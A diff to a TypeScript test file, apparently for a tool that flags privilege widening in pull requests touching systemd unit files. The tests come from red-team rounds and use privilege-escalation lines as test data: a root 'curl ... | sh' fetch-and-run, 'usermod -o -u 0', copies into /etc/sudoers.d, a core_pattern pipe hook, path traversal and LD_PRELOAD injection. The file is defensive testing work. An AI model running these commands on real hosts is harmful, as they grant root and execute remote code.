@@ -141,10 +141,14 @@ describe('elevated commands', () => {
     )
   })
 
-  it('the same privileged program with other flags is the same command; a new path, another program, or a shell with another script is new', () => {
+  it('a changed command line is a new command, but for known-harmless changes; another path, another program, or a shell with another script is new', () => {
     const base = svc(`${user}ExecStartPre=+/usr/bin/mkdir -p /run/a\nExecStartPost=+/bin/sh -c "chown app /run/a"\nExecReload=+/bin/kill -HUP $MAINPID\n`)
-    const flags = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('mkdir -p', 'mkdir -p -m 0750').replace('-HUP', '-USR1') })
-    expect(flags.verdict).toBe('pass')
+    // Another signal for $MAINPID, --verbose at the end: on the allow-list of harmless changes.
+    const harmless = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('mkdir -p /run/a', 'mkdir -p /run/a --verbose').replace('-HUP', '-USR1') })
+    expect(harmless.verdict).toBe('pass')
+    // Any other flag is a new command: what a privileged program does with it is not known.
+    const flags = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('mkdir -p', 'mkdir -p -m 0750') })
+    expect(findings(unit(flags, 'a.service'))).toEqual(['command root 41caps @u/a.service:9'])
     // Merged /usr and re-wrapping a shell command over a continuation change nothing.
     const same = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('/bin/kill', '/usr/bin/kill').replace('"chown app /run/a"', '"chown app \\\n   /run/a"') })
     expect(same.verdict).toBe('pass')
@@ -237,8 +241,10 @@ describe('what the red team found in the model', () => {
 
   it('removing PrivateUsers= from a root service: its capabilities now count on the host (B14)', () => {
     const r = pr({ 'u/a.service': svc('PrivateUsers=yes\n') }, { 'u/a.service': svc('') })
-    expect(unit(r, 'a.service').capabilities.before).toMatchObject({ root: true, held: [], reachable: [] })
-    expect(findings(unit(r, 'a.service'))).toEqual(['held 41caps @u/a.service:6'])
+    // In its user namespace it kept only the file capabilities over root's and its own files (B11, round 3).
+    const overFiles = ['CAP_DAC_OVERRIDE', 'CAP_DAC_READ_SEARCH', 'CAP_FOWNER']
+    expect(unit(r, 'a.service').capabilities.before).toMatchObject({ root: true, held: overFiles, reachable: overFiles })
+    expect(findings(unit(r, 'a.service'))).toEqual(['held 38caps @u/a.service:6'])
     expect(unit(r, 'a.service').capabilities.widened[0]!.cause).toMatch(/PrivateUsers= is gone/)
   })
 
@@ -251,14 +257,14 @@ describe('what the red team found in the model', () => {
     expect(pr({ 'u/b.service': svc('') }, { 'u/b.service': svc('ExecStartPre=+/usr/bin/true\n') }).verdict).toBe('pass')
   })
 
-  it('LD_PRELOAD, PATH or a search path added for privileged commands is a widening; other environment is not (B17)', () => {
+  it('LD_PRELOAD, PATH or a search path added for privileged commands is a widening; inert locale variables are not (B17)', () => {
     const base = svc(`${user}ExecReload=+/bin/kill -HUP $MAINPID\n`)
     const preload = pr({ 'u/a.service': base }, { 'u/a.service': `${base}Environment=LD_PRELOAD=/var/lib/app/x.so\n` })
     expect(findings(unit(preload, 'a.service'))).toEqual(['command  @u/a.service:9'])
     expect(preload.failures[0]!.message).toMatch(/changes what its privileged commands \(ExecReload=\+\/bin\/kill -HUP \$MAINPID\) load and run: Environment= sets LD_PRELOAD/)
     const search = pr({ 'u/a.service': base }, { 'u/a.service': `${base}ExecSearchPath=/var/lib/app/bin\n` })
     expect(search.verdict).toBe('fail')
-    const harmless = pr({ 'u/a.service': base }, { 'u/a.service': `${base}Environment=LOG_LEVEL=debug\n` })
+    const harmless = pr({ 'u/a.service': base }, { 'u/a.service': `${base}Environment=LANG=C.UTF-8 TZ=UTC\n` })
     expect(harmless.verdict).toBe('pass')
     // Without privileged commands the environment is the daemon's own business.
     expect(pr({ 'u/b.service': svc(user) }, { 'u/b.service': svc(`${user}Environment=LD_PRELOAD=/x.so\n`) }).verdict).toBe('pass')
@@ -293,5 +299,117 @@ describe('what the red team found in the model', () => {
     // A base refused the same way is a baseline all the same: editing another line adds nothing.
     const both = pr({ 'u/b.service': refused }, { 'u/b.service': refused.replace('Description=t', 'Description=b') })
     expect(both.verdict).toBe('pass')
+  })
+})
+
+/** Red-team round 3 (/tmp/attack3): each test fails on the model before its fix. */
+describe('round 3: elevated command lines, their environment, User=%i, PrivateUsers=, ALL waivers', () => {
+  const user = 'User=app\nNoNewPrivileges=yes\n'
+  const verdictOf = (base: string, head: string, version: SystemdVersion = '252'): string => pr({ 'u/a.service': base }, { 'u/a.service': head }, version).verdict
+
+  it('any change of an elevated command line is a new command: flags, attached paths, relative paths, wrappers that run their arguments (B5–B7)', () => {
+    const cases: [string, string][] = [
+      ['+/usr/bin/chown -R -P app:app /var/lib/app', '+/usr/bin/chown -R -L app:app /var/lib/app'],
+      ['+/usr/bin/cp /var/lib/app/app.conf /etc/app/', '+/usr/bin/cp /var/lib/app/app.conf -t/etc/sudoers.d'],
+      ['+/usr/sbin/sysctl -w kernel.core_pattern=core', '+/usr/sbin/sysctl -w kernel.core_pattern=|/var/lib/app/crash-hook'],
+      ['+/usr/bin/chown -R app:app data', '+/usr/bin/chown -R app:app ../../../etc'],
+      ['+/usr/sbin/usermod -a -G app-logs app', '+/usr/sbin/usermod -o -u 0 app'],
+      ['+/usr/bin/systemd-cat -t app /usr/lib/app/setup', '+/usr/bin/systemd-cat -t app /bin/bash -c id'],
+      ['!/usr/bin/setarch x86_64 /usr/lib/app/setup', '!/usr/bin/setarch x86_64 bash'],
+    ]
+    for (const [before, after] of cases) expect(verdictOf(svc(`${user}ExecStartPre=${before}\n`), svc(`${user}ExecStartPre=${after}\n`)), after).toBe('fail')
+  })
+
+  it('elevated commands are compared after systemd expands $VAR and ${VAR} from Environment= (B5 n10, n10b)', () => {
+    const base = svc(`${user}Environment=D=/var/lib/app\nExecStartPre=+/usr/bin/chown -R app:app \${D}\n`)
+    // The same argv written with or without the variable is the same command.
+    expect(verdictOf(base, base.replace('${D}', '$D'))).toBe('pass')
+    expect(verdictOf(base, base.replace('${D}', '/var/lib/app').replace('Environment=D=/var/lib/app\n', 'Environment=D=/var/lib/app\nEnvironment=E=1\n').replace('E=1', 'D=/var/lib/app'))).toBe('pass')
+    // A variable that now names another path changes the argv (and the environment).
+    const r = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('D=/var/lib/app', 'D=/etc') })
+    expect(unit(r, 'a.service').capabilities.widened.map((w) => w.level)).toEqual(['command', 'command'])
+    expect(unit(r, 'a.service').capabilities.widened[0]!.command).toMatchObject({ text: '+/usr/bin/chown -R app:app ${D}' })
+    // An unquoted $D is split into words: one more argument is another command.
+    const split = svc(`${user}Environment="D=/var/lib/app /etc/sudoers.d"\nExecStartPre=+/usr/bin/chown -R app:app $D\n`)
+    expect(verdictOf(split, split.replace('$D', '/var/lib/app /etc/sudoers.d'))).toBe('pass')
+    expect(verdictOf(split, split.replace('$D', '${D}'))).toBe('fail')
+  })
+
+  it('no-op spellings stay the same command: merged /usr, re-wrapping, a bare name in the default search path, a shell running one literal command (FA3, FA4)', () => {
+    const base = svc(`${user}ExecStartPre=+/usr/bin/chown app:app /run/app\n`)
+    expect(verdictOf(base, base.replace('/usr/bin/chown', '/bin/chown'))).toBe('pass')
+    expect(verdictOf(base, base.replace('/usr/bin/chown', 'chown'))).toBe('pass')
+    expect(verdictOf(base, base.replace('+/usr/bin/chown app:app /run/app', '+/bin/sh -c "/usr/bin/chown app:app \\\n  /run/app"'))).toBe('pass')
+    // …but not when the search path the bare name is resolved in changes, nor a shell script with operators.
+    expect(verdictOf(base, base.replace('/usr/bin/chown', 'chown').replace('[Service]\n', '[Service]\nExecSearchPath=/var/lib/app/bin\n'))).toBe('fail')
+    expect(verdictOf(base, base.replace('+/usr/bin/chown app:app /run/app', '+/bin/sh -c "/usr/bin/chown app:app /run/app; id"'))).toBe('fail')
+  })
+
+  it('an elevated command moved to another Exec directive is the same command; a second copy is one new command (FA2)', () => {
+    const base = svc(`${user}ExecStartPre=+/usr/bin/chown app:app /run/app\n`)
+    expect(verdictOf(base, base.replace('ExecStartPre=', 'ExecStartPost='))).toBe('pass')
+    const twice = pr({ 'u/a.service': base }, { 'u/a.service': `${base}ExecStartPost=+/usr/bin/chown app:app /run/app\n` })
+    expect(findings(unit(twice, 'a.service'))).toEqual(['command root 41caps @u/a.service:9'])
+    // The same command with another elevation is not the same.
+    expect(verdictOf(svc(`${user}ExecStartPre=!/usr/bin/chown app:app /run/app\n`), base)).toBe('fail')
+  })
+
+  it('any variable or working directory change of a unit with elevated commands is a finding; a removed Environment= reset too (B5 e10, B8)', () => {
+    const base = svc(`${user}WorkingDirectory=/var/lib/app\nEnvironment=LD_PRELOAD=/var/lib/app/libtrace.so\nEnvironment=\nExecStartPre=+/usr/bin/chown -R app:app .\n`)
+    const message = (head: string): string[] => pr({ 'u/a.service': base }, { 'u/a.service': head }).failures.map((f) => f.message)
+    expect(message(base.replace('Environment=\n', ''))).toEqual([expect.stringMatching(/load and run: Environment= sets LD_PRELOAD \(Environment= removed, u\/a\.service:10 in base\)$/)])
+    expect(message(base.replace('WorkingDirectory=/var/lib/app', 'WorkingDirectory=/etc'))).toEqual([expect.stringMatching(/WorkingDirectory=\/etc \(was \/var\/lib\/app\)/)])
+    for (const v of ['HOME=/var/lib/app', 'PHPRC=/var/lib/app/php.ini', 'ZDOTDIR=/var/lib/app', 'XDG_CONFIG_HOME=/var/lib/app/.config']) {
+      expect(message(`${base}Environment=${v}\n`), v).toEqual([expect.stringMatching(new RegExp(`Environment= sets ${v.split('=')[0]}`))])
+    }
+    // An UnsetEnvironment= that no longer removes a variable, and a variable removed, count too.
+    const unset = `${base}Environment=HOME=/var/lib/app\nUnsetEnvironment=HOME\n`
+    expect(pr({ 'u/a.service': unset }, { 'u/a.service': unset.replace('UnsetEnvironment=HOME\n', '') }).verdict).toBe('fail')
+    expect(pr({ 'u/a.service': `${base}Environment=HOME=/root\n` }, { 'u/a.service': base }).verdict).toBe('fail')
+    expect(verdictOf(svc(`${user}WorkingDirectory=/var/lib/app\n`), svc(`${user}WorkingDirectory=/etc\nEnvironment=HOME=/x\n`))).toBe('pass')
+  })
+
+  it('User=%i is read as root and as another user: the real syncthing unit gaining ambient capabilities, or losing NoNewPrivileges= on 262 (B10)', () => {
+    const syncthing = upstream('syncthing@.service')
+    const file = 'etc/linux-systemd/system/syncthing@.service'
+    for (const version of ['252', '262'] as const) {
+      const r = pr({ [file]: syncthing }, { [file]: syncthing.replace('AmbientCapabilities=\n', 'AmbientCapabilities=CAP_CHOWN CAP_FOWNER\n') }, version)
+      expect(r.verdict, version).toBe('fail')
+      const s = r.services[0]!
+      expect(findings(s), version).toEqual([`held CAP_CHOWN,CAP_FOWNER @${file}:103`])
+      expect(s.capabilities.widened[0]!.what).toMatch(/now holds CAP_CHOWN, CAP_FOWNER at start \(if the instance names a user other than root\)/)
+    }
+    const nnp = (version: SystemdVersion): DiffReport => pr({ [file]: syncthing }, { [file]: syncthing.replace('NoNewPrivileges=true\n', '') }, version)
+    expect(findings(nnp('262').services[0]!)).toEqual([`reachable CAP_CHOWN,CAP_FOWNER @${file}:54`])
+    // On 252 the seccomp-based settings still force NoNewPrivileges= on a user that is not root.
+    expect(nnp('252').verdict).toBe('pass')
+  })
+
+  it('PrivateUsers= keeps the capabilities that act on host files whose owners the namespace maps (B11)', () => {
+    const base = svc('CapabilityBoundingSet=CAP_NET_BIND_SERVICE\n')
+    const held = (value: string): string[] => pr({ 'u/a.service': base }, { 'u/a.service': svc(`PrivateUsers=${value}\n`) }, '262').services[0]!.capabilities.widened.filter((w) => w.level === 'held').flatMap((w) => w.capabilities)
+    const ids = ['CAP_CHOWN', 'CAP_DAC_OVERRIDE', 'CAP_DAC_READ_SEARCH', 'CAP_FOWNER', 'CAP_FSETID', 'CAP_SETGID', 'CAP_SETUID']
+    expect(held('identity')).toEqual(ids)
+    expect(held('full')).toEqual(ids)
+    expect(held('self')).toEqual(['CAP_DAC_OVERRIDE', 'CAP_DAC_READ_SEARCH', 'CAP_FOWNER'])
+    expect(held('yes')).toEqual(['CAP_DAC_OVERRIDE', 'CAP_DAC_READ_SEARCH', 'CAP_FOWNER'])
+    expect(pr({ 'u/a.service': base }, { 'u/a.service': svc('PrivateUsers=managed\n') }, '262').verdict).toBe('pass')
+  })
+
+  it('an old allow ALL is base\'s only above the same line: a line inserted below it, or the waiver moved, makes it a waiver of this change (B12)', () => {
+    const waiver = '# systemd-exposure: allow ALL -- the disk-setup helper must run as root\n'
+    const base = svc(`${user}${waiver}ExecStartPre=+/usr/lib/app/disk-setup\n`)
+    const inserted = pr({ 'u/a.service': base }, { 'u/a.service': base.replace(waiver, `${waiver}ExecStartPre=+/bin/sh -c "curl -s example.invalid | sh"\n`) })
+    const acceptances = unit(inserted, 'a.service').capabilities.widened.flatMap((w) => w.accepted)
+    expect(acceptances.length).toBeGreaterThan(0)
+    expect(acceptances.every((x) => x.addedInChange)).toBe(true)
+    const moved = pr({ 'u/a.service': base }, { 'u/a.service': svc(`${waiver}User=root\nNoNewPrivileges=yes\nExecStartPre=+/usr/lib/app/disk-setup\n`) })
+    expect(unit(moved, 'a.service').capabilities.widened[0]).toMatchObject({ level: 'held', accepted: expect.arrayContaining([expect.objectContaining({ privilege: 'root', addedInChange: true })]) })
+    // Above the same line, only re-spelled (merged /usr), it stays base's.
+    const root = (extra: string, command: string): string => svc(`${extra}${waiver}ExecStartPre=+${command}\n`)
+    const respelled = pr({ 'u/a.service': root('', '/usr/bin/disk-setup') }, { 'u/a.service': root('ProtectSystem=strict\n', '/bin/disk-setup') })
+    expect(unit(respelled, 'a.service').capabilities.widened).toEqual([
+      expect.objectContaining({ level: 'command', unaccepted: [], accepted: [expect.objectContaining({ privilege: 'outside-sandbox', addedInChange: false })] }),
+    ])
   })
 })
